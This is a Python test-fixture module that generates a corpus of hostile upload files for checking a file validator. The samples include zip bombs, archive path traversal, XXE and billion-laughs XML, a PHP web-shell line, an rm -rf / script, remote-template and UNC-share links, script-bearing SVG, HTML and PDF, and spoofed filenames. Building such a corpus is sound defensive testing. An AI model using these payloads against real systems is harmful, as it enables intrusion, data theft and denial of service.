"""Files that nobody means well with, built by code: (what it is, name, declared type, bytes).

The large ones take seconds, so they are built when somebody wants their bytes.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from functools import cache, partial

from PIL import Image, PngImagePlugin

File = tuple[str, str, str, bytes]
Plan = tuple[str, str, str, bytes | Callable[[], bytes]]

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OPEN_XML = "application/vnd.openxmlformats-officedocument."
DOCX = f"{OPEN_XML}wordprocessingml.document"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="urn:content-types">'
    '<Override PartName="/word/document.xml" ContentType="%s.main+xml"/>%s</Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="urn:relationships"><Relationship Id="r1" '
    'Type="urn:relationships/%s" Target="%s" TargetMode="%s"/></Relationships>'
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>'
SCRIPT = b"<script>alert(1)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"


def docx(parts: Mapping[str, bytes] | None = None, types: str = "", **more: bytes) -> bytes:
    """A document, with more parts or with other ones."""
    return packed(
        {
            "[Content_Types].xml": (TYPES % (DOCX, types)).encode(),
            "word/document.xml": b'<w:document xmlns:w="w"/>',
            **(parts or {}),
            **more,
        }
    )


def odt(parts: Mapping[str, bytes] | None = None) -> bytes:
    """A text of the other kind."""
    content = (
        b'<o:document-content xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        b' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
        b' xmlns:xlink="http://www.w3.org/1999/xlink">%s</o:document-content>'
    )
    given = dict(parts or {})
    return packed(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": content % given.pop("inner", b""),
            **given,
        }
    )


def packed(parts: Mapping[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A packed folder."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return written.getvalue()


def picture(form: str = "PNG", size: tuple[int, int] = (40, 30), **how: object) -> bytes:
    """An honest picture."""
    written = io.BytesIO()
    Image.new("RGB", size, (20, 120, 130)).save(written, form, **how)
    return written.getvalue()


def pdf(inner: bytes = b"") -> bytes:
    """The smallest honest PDF."""
    body = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R" + inner + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>endobj\n"
    )
    return body + b"trailer<</Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(body)


def _png_of(width: int, height: int, data: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = data or zlib.compress(b"\0" * ((width // 8 + 1) * min(height, 4000)), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _symlink() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as old, zipfile.ZipFile(written, "w") as archive:
        for entry in old.infolist():
            archive.writestr(entry, old.read(entry))
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return written.getvalue()


def _lying_sizes() -> bytes:
    """The directory says ten bytes; a hundred megabytes come out."""
    data = bytearray(docx({"word/big.xml": b"\0" * 60_000_000}))
    place = data.rfind(b"PK\x01\x02")
    data[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(data)


def _zeros() -> bytes:
    return b"\0" * 200_000_000


def _many_entries(number: int) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for entry in range(number):
            archive.writestr(str(entry), b"")
    return written.getvalue()


def _few_said(number: int) -> bytes:
    """So many entries, and an end that says there are three."""
    data = bytearray(_many_entries(number))
    place = data.rfind(b"PK\x05\x06")
    data[place + 8 : place + 12] = struct.pack("<HH", 3, 3)
    return bytes(data)


def _frames(form: str) -> bytes:
    written = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), (n * 60, 0, 0)) for n in range(4)]
    frames[0].save(written, form, save_all=True, append_images=frames[1:], duration=100)
    return written.getvalue()


def located() -> bytes:
    """A photo that says where it was taken, and lies on its side."""
    picture_ = Image.new("RGB", (40, 20), (9, 9, 9))
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Camera of Karen"
    exif.get_ifd(0x8825).update({1: "N", 2: (55.0, 40.0, 12.0), 3: "E", 4: (12.0, 34.0, 5.0)})
    written = io.BytesIO()
    picture_.save(written, "JPEG", exif=exif)
    return written.getvalue()


def _chatty() -> bytes:
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", "<script>alert(1)</script>")
    words.add_text("Bomb", "a" * 60_000_000, zip=True)
    return picture(pnginfo=words)


def whats() -> Sequence[str]:
    """What they are."""
    return [what for what, *_file in _plans()]


@cache
def file(what: str) -> File:
    """The one that is this."""
    (found,) = (plan for plan in _plans() if plan[0] == what)
    what, name, declared, data = found
    return what, name, declared, data if isinstance(data, bytes) else data()


def corpus() -> Iterator[File]:
    """All of them."""
    return map(file, whats())


@cache
def _plans() -> tuple[Plan, ...]:
    return tuple(_corpus())


def _corpus() -> Iterator[Plan]:
    png, jpeg = picture(), picture("JPEG")
    # --- nothing, half of it, something else
    yield "empty", "tom.pdf", "application/pdf", b""
    yield "empty text", "tom.txt", "text/plain", b""
    yield "half a PDF", "halv.pdf", "application/pdf", pdf()[:-40]
    yield "half a PNG", "halv.png", "image/png", png[: len(png) // 2]
    yield "half a JPEG", "halv.jpg", "image/jpeg", jpeg[:300]
    yield "half a document", "halv.docx", DOCX, docx()[:200]
    yield "HTML as PDF", "side.pdf", "application/pdf", HTML
    yield "HTML as PNG", "side.png", "image/png", HTML
    yield "HTML as text", "side.txt", "text/plain", HTML
    yield "HTML after white space", "side.md", "text/markdown", b"\n\n   \t" + HTML
    yield "HTML", "side.html", "text/html", HTML
    yield "XHTML", "side.xhtml", "application/xhtml+xml", b"<?xml version='1.0'?>" + HTML
    yield "PNG as JPEG", "billede.jpg", "image/jpeg", png
    yield "JPEG declared HTML", "billede.jpg", "text/html", jpeg
    yield "PDF declared a script", "noter.pdf", "application/javascript", pdf()
    yield "PDF with HTML in front", "noter.pdf", "application/pdf", HTML + pdf()
    yield "PDF as text", "noter.txt", "text/plain", pdf()
    yield "program as PDF", "noter.pdf", "application/pdf", b"MZ" + bytes(600)
    yield "program", "setup.exe", "application/octet-stream", b"MZ" + bytes(600)
    yield "ELF as text", "noter.txt", "text/plain", b"\x7fELF" + bytes(600)
    yield "shell script", "noter.md", "text/markdown", b"#!/bin/sh\nrm -rf /\n"
    yield "bytes as text", "noter.txt", "text/plain", bytes(range(256)) * 4
    yield "script", "noter.js", "text/javascript", b"alert(1)"
    yield "PHP as text", "noter.txt", "text/plain", b"<?php system($_GET['c']); ?>"
    yield "EICAR", "eicar.txt", "text/plain", EICAR
    yield "EICAR in a document", "eicar.docx", DOCX, docx({"word/eicar.bin": EICAR})
    yield "EICAR behind a chunk", "e.docx", DOCX, docx({"word/e.bin": b"x" * 262_130 + EICAR})
    # --- drawings
    yield "SVG with a script", "tegning.svg", "image/svg+xml", SVG % SCRIPT
    yield "SVG as PNG", "tegning.png", "image/png", SVG % SCRIPT
    inner = b"<foreignObject><body onload='alert(1)'/></foreignObject>"
    yield "SVG with foreignObject", "tegning.svg", "image/svg+xml", SVG % inner
    yield "SVG with use", "t.svg", "image/svg+xml", SVG % b"<use href='https://x.example/a#b'/>"
    yield "SVG as text", "tegning.txt", "text/plain", b"<?xml version='1.0'?>\n" + SVG % SCRIPT
    yield "EPS", "tegning.eps", "application/postscript", b"%!PS-Adobe-3.0 EPSF-3.0\n(rm) run"
    yield "EPS as PNG", "tegning.png", "image/png", b"%!PS-Adobe-3.0 EPSF-3.0\n"
    # --- pictures
    yield "GIF and script at once", "billede.gif", "image/gif", b"GIF89a/*" + bytes(40) + b"*/=1"
    yield "PNG and HTML at once", "billede.png", "image/png", png + HTML
    yield "JPEG and a folder at once", "billede.jpg", "image/jpeg", jpeg + docx()
    yield "900 megapixels", "stor.png", "image/png", partial(_png_of, 30_000, 30_000)
    yield "41 megapixels", "stor.png", "image/png", partial(_png_of, 6_500, 6_500)
    yield "a line of 2^31", "lang.png", "image/png", _png_of(2**31 - 1, 1, b"x")
    yield "GIF of 4 gigapixels", "stor.gif", "image/gif", b"GIF89a" + b"\xff" * 4 + bytes(60)
    yield (
        "WebP of 268 megapixels",
        "stor.webp",
        "image/webp",
        (b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f" + b"\xff\xff\xff\x0f" + bytes(9)),
    )
    yield "GIF that moves", "film.gif", "image/gif", _frames("GIF")
    yield "WebP that moves", "film.webp", "image/webp", _frames("WEBP")
    yield "PNG that moves", "film.png", "image/png", _frames("PNG")
    yield "photo with a place", "foto.jpg", "image/jpeg", located()
    yield "PNG with words", "ord.png", "image/png", _chatty
    yield "TIFF as PNG", "billede.png", "image/png", picture("TIFF")
    yield "HEIC", "foto.heic", "image/heic", b"\0\0\0\x18ftypheic" + bytes(80)
    yield "HEIC as JPEG", "foto.jpg", "image/jpeg", b"\0\0\0\x18ftypmif1" + bytes(80)
    yield "AVIF as PNG", "foto.png", "image/png", b"\0\0\0\x18ftypavif" + bytes(80)
    # --- packed folders
    yield "200 MB of nothing", "bombe.docx", DOCX, lambda: docx({"word/media/a.bin": _zeros()})
    yield "the same as a folder", "bombe.zip", "application/zip", lambda: packed({"a": _zeros()})
    yield "sizes that lie", "bombe.docx", DOCX, _lying_sizes
    inside = packed({f"{n}.zip": packed({"a": b"\0" * 900_000}) for n in range(10)})
    yield "folders in folders", "bombe.docx", DOCX, inside
    yield "2,500 entries", "mange.docx", DOCX, partial(_many_entries, 2_500)
    yield "30,000 entries, said to be 3", "mange.docx", DOCX, partial(_few_said, 30_000)
    yield "out of its folder", "ud.docx", DOCX, docx({"../../etc/cron.d/x": b"x"})
    yield "absolute", "ud.docx", DOCX, docx({"/etc/passwd": b"x"})
    yield "a drive", "ud.docx", DOCX, docx({"C:/x": b"x"})
    yield "backslashes", "ud.docx", DOCX, docx({"..\\..\\x": b"x"})
    yield "a link", "ud.docx", DOCX, _symlink()
    yield "something in front", "foran.docx", DOCX, b"PK\x03\x04" + b"x" * 40 + docx()
    yield "something behind", "bag.docx", DOCX, docx() + HTML
    yield "no document in it", "tom.docx", DOCX, packed({"a.txt": b"x"})
    yield "an installer", "app.docx", DOCX, packed({"META-INF/MANIFEST.MF": b"Main-Class: X"})
    yield (
        "another packing",
        "lzma.docx",
        DOCX,
        packed({"word/document.xml": b"x"}, zipfile.ZIP_LZMA),
    )
    locked = docx().replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\1\0")
    yield "locked", "laast.docx", DOCX, locked
    yield "old and locked", "laast.docx", DOCX, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    # --- documents that do something
    yield "macros", "makro.docx", DOCX, docx({"word/vbaProject.bin": b"x"})
    yield "macros by name", "makro.docm", "application/octet-stream", docx()
    macro = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    yield "macros by type", "makro.docx", DOCX, docx(types=macro)
    yield "old macros", "makro.xlsx", "", docx({"xl/workbook.xml": b"x", "xl/macrosheets/a": b"x"})
    yield "ActiveX", "x.docx", DOCX, docx({"word/activeX/activeX1.bin": b"x"})
    template = RELATIONS % ("attachedTemplate", "https://x.example/a.dotm", "External")
    rels = "word/_rels/settings.xml.rels"
    yield "template", "skabelon.docx", DOCX, docx({rels: template.encode()})
    hidden = template.replace('"External"', '"&#69;xternal"')
    yield "template, hidden", "skabelon.docx", DOCX, docx({rels: hidden.encode()})
    yield "template in UTF-16", "skabelon.docx", DOCX, docx({rels: template[21:].encode("utf-16")})
    share = RELATIONS % ("image", "\\\\10.0.0.1\\share\\a.png", "External")
    yield (
        "a picture elsewhere",
        "b.docx",
        DOCX,
        docx({"word/_rels/document.xml.rels": share.encode()}),
    )
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
    yield "a million laughs", "haha.docx", DOCX, docx({rels: laughs})
    outside = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    yield "a file from here", "passwd.docx", DOCX, docx({"[Content_Types].xml": outside})
    many = b"<a>" + b"<b/>" * 200_000 + b"</a>"
    yield "many elements", "b.docx", DOCX, docx({rels: many})
    yield "ODT with Basic", "makro.odt", "", odt({"Basic/Standard/a.xml": b"<a/>"})
    fetched = b'<draw:image xlink:href="https://x.example/a.png"/>'
    yield "ODT that fetches", "b.odt", "", odt({"inner": fetched})
    yield "ODT by name only", "b.odt", "", docx()
    yield "ODS that is ODT", "b.ods", "", odt()
    opens = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
    yield "PDF with a script", "aktiv.pdf", "application/pdf", pdf(opens)
    # --- names
    for what, name in NAMES.items():
        yield f"name: {what}", name, "application/pdf", pdf()


NAMES: Mapping[str, str] = {
    "climbing": "../../../etc/passwd.pdf",
    "climbing, Windows": "..\\..\\windows\\system32\\a.pdf",
    "NUL": "a\0.exe.pdf",
    "right to left": "regning\u202efdp.exe.pdf",
    "right to left, program": "regning\u202efdp.exe",
    "device": "CON.pdf",
    "device with a dot": "aux.txt.pdf",
    "stream": "a.pdf:evil.exe",
    "two endings": "regning.exe.pdf",
    "program behind": "regning.pdf.exe",
    "no ending": "regning",
    "only an ending": ".pdf",
    "dots": "...-.",
    "quotes": 'a"; filename="b.exe.pdf',
    "lines": "a.pdf\r\nSet-Cookie: a=b.pdf",
    "markup": "<img src=x onerror=alert(1)>.pdf",
    "a thousand letters": "æ" * 1000 + ".pdf",
    "surrogate": "a\udcff.pdf",
    "spaces": "   .pdf",
    "ending with a space": "a.pdf .exe",
}
